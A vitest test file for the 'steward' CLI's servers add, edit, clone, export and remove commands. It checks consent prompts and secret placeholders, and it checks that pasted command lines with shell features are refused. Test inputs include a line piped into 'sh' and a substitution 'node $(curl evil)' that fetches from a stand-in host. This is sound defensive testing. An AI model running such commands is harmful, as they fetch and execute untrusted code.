// steward servers edit | clone | export | remove and add --command-line, as real processes on a temp data folder.
// Hostile input tried: a pasted line with a pipe and one with $(…), an edit that changes only a secret, a rename and a
// clone onto taken names (other case), --unset-env of a name that does not exist, and an export of stored secrets.
import { readFileSync, rmSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { steward, type CliRun } from '../helpers/cli.js';
import { tempDir } from '../helpers/host.js';
import { FIXTURES, NODE } from '../helpers/paths.js';

const PROBE = join(FIXTURES, 'probe-server.mjs');
let dir: string;
let home: string;
beforeAll(() => {
  dir = tempDir('steward-cli-edit-');
  home = join(dir, 'data');
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const run = (...args: string[]) => steward(home, args);
function data(r: CliRun): unknown {
  return (JSON.parse(r.stdout.trim().split('\n').at(-1) ?? '{}') as { data: unknown }).data;
}

describe('steward servers edit, clone, export', () => {
  it('adds from a pasted command line, and refuses shell features by name', async () => {
    const added = await run('servers', 'add', 'probe', '--command-line', `TOKEN=s3cret-value ${NODE} '${PROBE}' --first`, '--json');
    expect(added.code).toBe(0);
    expect(data(added) as { command: string; args: string[]; envNames: string[] }).toMatchObject({
      command: NODE,
      args: [PROBE, '--first'],
      envNames: ['TOKEN'],
    });

    const piped = await run('servers', 'add', 'bad', '--command-line', `${NODE} ${PROBE} | sh`);
    expect(piped.code).toBe(1);
    expect(piped.stderr).toContain('a pipe (|)');
    const substituted = await run('servers', 'add', 'bad', '--command-line', 'node $(curl evil)', '--json');
    expect(substituted.stdout).toContain('"code":"command_line_refused"');
  });

  it('edits the launch: consent is asked again, values not named are kept', async () => {
    expect((await run('consent', 'approve', 'probe', '--yes')).code).toBe(0);
    const edited = await run('servers', 'edit', 'probe', '--env', 'OTHER=x', '--', NODE, PROBE, '--second');
    expect(edited.code).toBe(0);
    expect(edited.stdout).toContain('The launch changed');
    expect(edited.stdout).toContain('steward consent approve "probe"');

    const shown = await run('consent', 'show', 'probe', '--json');
    const request = data(shown) as { diff: Array<{ field: string; change: string }>; state: string };
    expect(request.state).toBe('required');
    expect(request.diff).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ field: 'Arguments', change: 'changed' }),
        expect.objectContaining({ field: 'Variable OTHER', change: 'added' }),
        expect.objectContaining({ field: 'Variable TOKEN', change: 'unchanged' }),
      ]),
    );
    expect(shown.stdout).not.toContain('s3cret-value');

    // A rename alone keeps the launch: nothing new to approve (the edited launch still waits for its approval).
    const renamed = await run('servers', 'edit', 'probe', '--name', 'probe-1', '--json');
    expect((data(renamed) as { launch: string }).launch).toBe('unchanged');
    expect((await run('servers', 'edit', 'probe-1', '--unset-env', 'NOPE')).code).toBe(2);
    expect((await run('consent', 'approve', 'probe-1', '--yes')).code).toBe(0);
    const again = await run('servers', 'edit', 'probe-1', '--name', 'probe', '--json');
    expect(data(again) as { launch: string; message: string }).toMatchObject({ launch: 'unchanged' });
  });

  it('clones under a new name with its own consent, and refuses a taken name', async () => {
    const taken = await run('servers', 'clone', 'probe', 'PROBE');
    expect(taken.code).toBe(1);
    expect(taken.stderr).toContain('already exists');
    const cloned = await run('servers', 'clone', 'probe', 'probe-copy');
    expect(cloned.code).toBe(0);
    expect(cloned.stdout).toContain('needs its own consent');
    const shown = await run('consent', 'show', 'probe-copy', '--json');
    expect((data(shown) as { state: string }).state).toBe('required');
  });

  it('exports mcp.json with placeholders for secrets, to stdout or a file', async () => {
    const printed = await run('servers', 'export', 'probe');
    expect(printed.code).toBe(0);
    expect(JSON.parse(printed.stdout)).toEqual({
      mcpServers: { probe: { command: NODE, args: [PROBE, '--second'], env: { OTHER: '${env:OTHER}', TOKEN: '${env:TOKEN}' }, cwd: process.cwd() } },
    });
    expect(printed.stderr).toContain('Secrets are not exported: 2 value(s) are placeholders');
    expect(printed.stdout + printed.stderr).not.toContain('s3cret-value');

    const out = join(dir, 'mcp.json');
    const written = await run('servers', 'export', '--out', out);
    expect(written.code).toBe(0);
    const all = JSON.parse(readFileSync(out, 'utf8')) as { mcpServers: Record<string, unknown> };
    expect(Object.keys(all.mcpServers)).toEqual(expect.arrayContaining(['probe', 'probe-copy']));
    expect(readFileSync(out, 'utf8')).not.toContain('s3cret-value');
    expect(statSync(out).mode & 0o077).toBe(0);
  });

  it('removes without asking when no one is at a terminal (scripts), and says so', async () => {
    const removed = await run('servers', 'remove', 'probe-copy');
    expect(removed).toMatchObject({ code: 0 });
    expect(removed.stdout).toContain('Removed.');
    expect((await run('servers', 'show', 'probe-copy')).code).toBe(4);
  });
});
